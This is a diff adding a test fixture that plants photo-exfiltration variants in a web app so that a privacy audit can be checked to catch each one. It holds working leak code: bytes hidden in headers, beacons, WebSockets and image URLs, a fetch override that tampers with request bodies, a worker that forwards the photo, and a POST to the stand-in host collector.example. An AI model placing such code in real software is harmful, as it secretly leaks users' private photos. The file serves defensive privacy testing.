@@ -1,0 +1,132 @@
+/**
+ * Planted leaks: code that somebody careless, paid or hacked could have written, one way each. A build with
+ * any of them must fail the privacy audit, or the audit proves nothing.
+ */
+
+export interface Leak {
+  readonly name: string;
+  /** What the audit has to say of it. */
+  readonly found: RegExp;
+  /** Runs in the page with `file` (the chosen photo), `bytes` (its bytes), `base64` (3,000 of them) in reach. */
+  readonly page?: string;
+  /** Runs at the top of the worker's own script. */
+  readonly worker?: string;
+}
+
+/** Replaces fetch by one that changes the body of requests whose address ends in `path`. */
+const meddle = (path: string, change: string) => `
+  const honest = window.fetch;
+  window.fetch = async (input, init) => {
+    const request = new Request(input, init);
+    if (!new URL(request.url).pathname.endsWith(${JSON.stringify(path)}) || request.method !== 'POST')
+      return honest(request);
+    const body = await request.json();
+    ${change}
+    return honest(new Request(request, { body: JSON.stringify(body) }));
+  };`;
+
+const POST_JSON = `(value) => fetch('/functions/v1/log', {
+  method: 'POST',
+  headers: { 'content-type': 'application/json' },
+  body: JSON.stringify(value),
+})`;
+
+export const LEAKS: readonly Leak[] = [
+  {
+    name: 'in a header of its own',
+    found: /unknown header x-trace/,
+    page: `fetch('/config.json', { headers: { 'x-trace': base64.slice(0, 400) } });`,
+  },
+  {
+    name: 'in an honest header',
+    found: /bytes of the photo/,
+    page: `fetch('/config.json', { headers: { apikey: base64.slice(600, 1000) } });`,
+  },
+  {
+    name: 'by a beacon',
+    found: /bytes of the photo/,
+    // Browsers take up to 64 KB.
+    page: `navigator.sendBeacon('/config.json', file.slice(0, 60_000));`,
+  },
+  {
+    name: 'in a WebSocket',
+    found: /a tunnel/,
+    page: `const socket = new WebSocket(location.origin.replace('http', 'ws') + '/live');
+      socket.addEventListener('open', () => socket.send(bytes));`,
+  },
+  {
+    name: 'in the address of an image',
+    found: /bytes of the photo/,
+    page: `new Image().src = '/samples/face.jpg?d=' + encodeURIComponent(base64.slice(600, 1100));`,
+  },
+  {
+    name: 'as a form',
+    found: /a body of type multipart/,
+    page: `const form = new FormData(); form.set('file', file); fetch('/functions/v1/log', { method: 'POST', body: form });`,
+  },
+  {
+    name: 'in small pieces of JSON',
+    found: /bytes of the photo/,
+    page: `for (let at = 600; at < 1500; at += 100) (${POST_JSON})({ note: base64.slice(at, at + 100) });`,
+  },
+  {
+    name: 'as hexadecimal text',
+    found: /bytes of the photo/,
+    page: `(${POST_JSON})({ note: [...bytes.subarray(700, 740)].map((b) => b.toString(16).padStart(2, '0')).join('') });`,
+  },
+  {
+    name: 'made small and coded anew',
+    found: /an encoded image/,
+    page: `createImageBitmap(file).then((bitmap) => {
+        const canvas = document.createElement('canvas');
+        canvas.width = canvas.height = 24;
+        canvas.getContext('2d').drawImage(bitmap, 0, 0, 24, 24);
+        return (${POST_JSON})({ note: canvas.toDataURL('image/jpeg', 0.5) });
+      });`,
+  },
+  {
+    name: 'as grey values',
+    found: /numbers in a row/,
+    page: `(${POST_JSON})({ values: [...bytes.subarray(700, 764)] });`,
+  },
+  {
+    name: 'as landmarks among the facts',
+    found: /facts beyond the contract/,
+    page: meddle('/functions/v1/roast', `body.landmarks = Array.from({ length: 40 }, (_, i) => i / 40);`),
+  },
+  {
+    name: 'as a shape that is hidden in an honest field of the facts',
+    found: /facts beyond the contract/,
+    page: meddle('/functions/v1/roast', `body.variant = base64.slice(600, 660);`),
+  },
+  {
+    name: 'out of the worker',
+    found: /bytes of the photo/,
+    worker: `self.addEventListener('message', ({ data }) => {
+      const find = (value) =>
+        value instanceof Blob ? value : typeof value === 'object' && value ? Object.values(value).map(find).find(Boolean) : null;
+      const photo = find(data);
+      if (photo) fetch('/functions/v1/log', { method: 'POST', body: photo });
+    });`,
+  },
+  {
+    name: 'to another host',
+    found: /the policy stepped in/,
+    page: `fetch('https://collector.example/', { method: 'POST', mode: 'no-cors', body: file }).catch(() => {});`,
+  },
+];
+
+/** To append to the page's entry: does what the leak named in `localStorage.leak` says. */
+export function pageCode(): string {
+  const cases = LEAKS.flatMap(({ name, page }, index) =>
+    page === undefined ? [] : [`case ${JSON.stringify(String(index))}: { /* ${name} */ ${page}\n break; }`],
+  );
+  return `
+;document.addEventListener('change', async (event) => {
+  const file = event.target?.files?.[0];
+  if (!file) return;
+  const bytes = new Uint8Array(await file.arrayBuffer());
+  const base64 = btoa(String.fromCharCode(...bytes.subarray(0, 3000)));
+  switch (localStorage.getItem('leak')) { ${cases.join('\n')} }
+}, true);`;
+}
